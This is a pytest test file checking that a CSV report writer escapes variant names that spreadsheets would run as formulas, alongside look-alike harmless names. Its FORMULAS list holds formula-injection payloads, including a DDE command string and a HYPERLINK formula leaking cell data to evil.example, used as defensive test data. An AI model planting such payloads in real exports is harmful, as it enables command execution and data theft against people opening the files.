"""Faults B and I: names from outside in the reports that are written; each beside names that only look alike."""

from __future__ import annotations

import csv
import io

import pytest

from pytest_inferopt.reporters.csv import Csv

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttab",
    " =1+1",
    "\uff1d1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1,"click")',
    "-2",
    "--",
]
SPLIT = {"a;=1+1": "a;'=1+1", "a\n=1+1": "a\n'=1+1", "a\t@SUM(1)": "a\t'@SUM(1)"}
HARMLESS = ["a=b", "a-b", "1+1", "user@example.com", "int8 - static", "'quoted'", "n_jobs=-1", "a;b", "a,-1", "Δ=2"]


def variants_in_csv(reports, name):
    """The cells of the column `variant` for a variant of that name."""
    report = reports.report(reports.result(reports.variant(name)))
    rows = csv.DictReader(io.StringIO(Csv().render(report), newline=""), strict=True)
    return {row["variant"] for row in rows} - {"original"}


@pytest.mark.parametrize("name", FORMULAS)
def test_b37_a_name_that_a_spreadsheet_would_run_as_a_formula_is_text_in_csv(reports, name):
    assert variants_in_csv(reports, name) == {f"'{name}"}


@pytest.mark.parametrize(("name", "cell"), SPLIT.items())
def test_b37_a_name_that_becomes_a_formula_where_a_spreadsheet_splits_it_is_text_in_csv(reports, name, cell):
    assert variants_in_csv(reports, name) == {cell}


@pytest.mark.parametrize("name", HARMLESS)
def test_b37_a_name_with_such_a_character_further_in_stays_as_it_is_in_csv(reports, name):
    assert variants_in_csv(reports, name) == {name}


def test_b37_a_negative_number_stays_a_number_in_csv(reports):
    found = reports.result(reports.variant(accuracy=reports.accuracy(-0.25, -1.5)))
    rows = list(csv.DictReader(io.StringIO(Csv().render(reports.report(found)), newline="")))
    assert (rows[-1]["score"], rows[-1]["accuracy_ratio"]) == ("-0.25", "-1.5")


@pytest.mark.parametrize("name", FORMULAS)
def test_b37_no_cell_of_a_csv_report_starts_a_formula_wherever_the_name_stands(reports, name):
    cells = [cell for row in csv.reader(io.StringIO(Csv().render(reports.hostile(name)), newline="")) for cell in row]
    texts = [cell for cell in cells if name in cell]
    assert len(texts) > 20
    assert {cell[0] for cell in texts} == {"'"}
